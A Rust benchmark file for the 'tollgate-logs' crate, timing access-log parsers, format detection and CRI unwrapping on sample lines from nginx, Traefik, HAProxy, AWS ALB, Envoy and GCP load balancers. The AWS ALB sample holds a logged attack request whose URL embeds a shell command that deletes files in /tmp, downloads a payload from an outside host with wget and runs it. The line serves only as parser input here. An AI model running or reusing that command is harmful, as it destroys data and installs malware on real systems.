//! One criterion benchmark per access-log parser, on a real sample line of its format (from
//! `research/access-logs.md`), plus format detection and the CRI unwrapper. Run with
//! `cargo bench -p tollgate-logs`. The whole pipeline against GoAccess is `bench/logs.sh`.
#![allow(missing_docs)]

use std::hint::black_box;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use tollgate_logs::Format;
use tollgate_logs::time::TimeCache;
use tollgate_logs::wrap::Unwrapper;

const SAMPLES: &[(Format, &str)] = &[
    (
        Format::IngressNginx,
        r#"2a02:cf40::4e36 - - [24/Aug/2022:18:05:41 +0000] "GET /favicon.ico HTTP/2.0" 502 552 "https://localhost:8080/" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/104.0.0.0 Safari/537.36" 27 0.000 [localhost-8080] [] [2a02:cf40::7]:5000, [2a02:cf40::4e36]:5000 0, 1 0.000, 1.000 502, 403 3db73c6c673c4256ade033a6ce08c2ab"#,
    ),
    (
        Format::IngressNginx,
        r#"{"time": "2020-02-07T11:48:51+00:00", "remote_addr": "192.168.64.1", "x_forwarded_for": "192.168.64.1", "request_id": "529a007902362a5f51385a5fa7049884", "remote_user": "", "bytes_sent": 312, "request_time": 0.001, "status": 200, "vhost": "hello-world.info", "request_proto": "HTTP/1.1", "path": "/products", "request_query": "", "request_length": 89, "method": "POST", "http_referrer": "", "http_user_agent": "curl/7.54.0"}"#,
    ),
    (
        Format::Nginx,
        r#"67.43.156.13 - - [25/Oct/2016:14:49:33 +0200] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_12_0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/54.0.2840.59 Safari/537.36""#,
    ),
    (
        Format::Traefik,
        r#"192.168.33.1 - - [02/Oct/2017:20:22:07 +0000] "GET /ui/favicons/favicon-16x16.png HTTP/1.1" 304 0 "http://example.com/login" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/61.0.3163.100 Safari/537.36" 262 "Host-host-1" "http://172.19.0.3:5601" 2ms"#,
    ),
    (
        Format::TraefikJson,
        r#"{"ClientAddr":"10.10.10.20:23456","DownstreamContentSize":19,"DownstreamStatus":404,"Duration":486767,"OriginContentSize":19,"OriginDuration":467360,"OriginStatus":404,"Overhead":19407,"RequestAddr":"10.10.10.11:12345","RequestContentSize":814,"RequestCount":583793,"RequestHost":"10.10.10.11","RequestMethod":"GET","RequestPath":"/foo/bar/baz.php","RequestPort":"-","RequestProtocol":"HTTP/1.1","RetryAttempts":0,"RouterName":"service-foo-0101010101010101@kubernetescrd","ServiceAddr":"10.10.10.40:1234","ServiceName":"service-foo-0120101010101@kubernetescrd","entryPointName":"web","level":"info","msg":"","request_User-Agent":"Mozilla/5.0","time":"2024-02-02T17:07:08Z"}"#,
    ),
    (
        Format::Haproxy,
        r#"Feb  6 12:14:14 localhost haproxy[14389]: 10.0.1.2:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 {1wt.eu} {} "GET /index.html HTTP/1.1""#,
    ),
    (
        Format::AwsAlb,
        r#"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""#,
    ),
    (
        Format::Envoy,
        r#"[2022-07-20T09:52:24.955Z] "GET /details/0 HTTP/1.1" 200 - via_upstream - "-" 0 178 2 1 "-" "Mozilla/5.0 (X11)" "785918d6-06b6-9312-bf77-6d9bd968dc21" "details:9080" "10.68.2.10:9080" inbound|9080|| 127.0.0.6:47889 10.68.2.10:9080 10.68.1.7:39696 outbound_.9080_._.details.default.svc.cluster.local default"#,
    ),
    (
        Format::EnvoyJson,
        r#"{":authority":"www.example.com","bytes_received":0,"bytes_sent":121258,"connection_termination_details":null,"downstream_local_address":"10.42.0.77:10443","downstream_remote_address":"10.0.0.12:59292","duration":11,"method":"GET","protocol":"HTTP/2","requested_server_name":null,"response_code":200,"response_code_details":"via_upstream","response_flags":"-","route_name":"httproute/app/app-www-example-com/rule/0/match/0/www_example_com","start_time":"2025-12-31T16:37:40.482Z","upstream_cluster":"httproute/app/app-www-example-com/rule/0","upstream_host":"10.42.0.80:8080","user-agent":"curl/8.4.0","x-envoy-origin-path":"/","x-request-id":"7b0e3d0e-0f1a-4c55-9d6e-7a5b2f1c9e11"}"#,
    ),
    (
        Format::GcpLb,
        r#"{"insertId":"1oek5rg3l3fxj7","jsonPayload":{"@type":"type.googleapis.com/google.cloud.loadbalancing.type.LoadBalancerLogEntry","cacheId":"SFO-fbae48ad","statusDetails":"response_from_cache"},"httpRequest":{"requestMethod":"GET","requestUrl":"http://81.2.69.193:8080/static/us/three-cats.jpg","requestSize":"577","status":304,"responseSize":"157","userAgent":"Mozilla/5.0","remoteIp":"89.160.20.156:9989","cacheHit":true,"cacheLookup":true,"serverIp":"10.5.3.1:9090","protocol":"HTTP/2.0","referer":"https://developer.mozilla.org/en-US/docs/Web/JavaScript"},"resource":{"type":"http_load_balancer","labels":{"zone":"global","url_map_name":"URL_MAP_NAME","forwarding_rule_name":"FORWARDING_RULE_NAME","target_proxy_name":"TARGET_PROXY_NAME","backend_service_name":"","project_id":"PROJECT_ID"}},"timestamp":"2020-06-08T23:41:30.078651Z","severity":"INFO"}"#,
    ),
];

fn parsers(c: &mut Criterion) {
    let mut group = c.benchmark_group("parse");
    group.throughput(Throughput::Elements(1));
    for (index, (format, line)) in SAMPLES.iter().enumerate() {
        assert!(
            format.parse(line, &mut TimeCache::new()).is_ok(),
            "sample {index} parses as {format}"
        );
        let name = if line.starts_with('{') && *format == Format::IngressNginx {
            "ingress-nginx-json".to_string()
        } else {
            format.name().to_string()
        };
        let mut clock = TimeCache::new();
        group.bench_function(name, |b| {
            b.iter(|| black_box(format.parse(black_box(line), &mut clock).is_ok()))
        });
    }
    group.finish();

    let mut group = c.benchmark_group("detect");
    group.throughput(Throughput::Elements(1));
    let mut clock = TimeCache::new();
    let (_, last) = SAMPLES[SAMPLES.len() - 1];
    group.bench_function("sniff-last-format", |b| {
        b.iter(|| black_box(Format::sniff(black_box(last), &mut clock).is_some()))
    });
    let cri = format!(
        "2025-12-31T17:37:40.493035218+01:00 stdout F {}",
        SAMPLES[0].1
    );
    group.bench_function("cri-unwrap", |b| {
        b.iter(|| {
            let mut unwrapper = Unwrapper::new();
            black_box(matches!(
                unwrapper.feed(black_box(&cri)),
                tollgate_logs::wrap::Unwrapped::Line(_)
            ))
        })
    });
    group.finish();
}

criterion_group!(benches, parsers);
criterion_main!(benches);
